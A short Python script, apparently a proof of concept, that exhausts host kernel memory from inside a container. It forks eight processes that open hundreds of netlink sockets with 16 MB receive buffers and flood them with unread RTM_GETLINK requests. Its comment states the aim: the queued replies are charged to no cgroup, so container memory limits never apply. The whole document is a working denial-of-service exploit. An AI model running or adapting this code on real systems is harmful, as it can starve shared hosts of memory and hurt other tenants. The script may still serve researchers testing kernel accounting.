# Answers of the kernel that nobody reads: they wait in the buffers of sockets, which no cgroup is charged for.
import os, socket, struct, time

ASK = struct.pack("IHHII", 32, 18, 1, 1, 0) + struct.pack("BBHiII", 0, 0, 0, 1, 0, 0)  # RTM_GETLINK of lo
kept = []


def fill():
    link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)
    link.bind((0, 0))
    kept.append(link)
    try:
        for _ in range(1000):
            link.send(ASK, socket.MSG_DONTWAIT)
    except OSError:
        pass
    print("at", time.time(), flush=True)


for _ in range(8):
    if os.fork() == 0:
        for _ in range(100):
            fill()
        time.sleep(60)
        os._exit(0)
while True:
    os.wait()
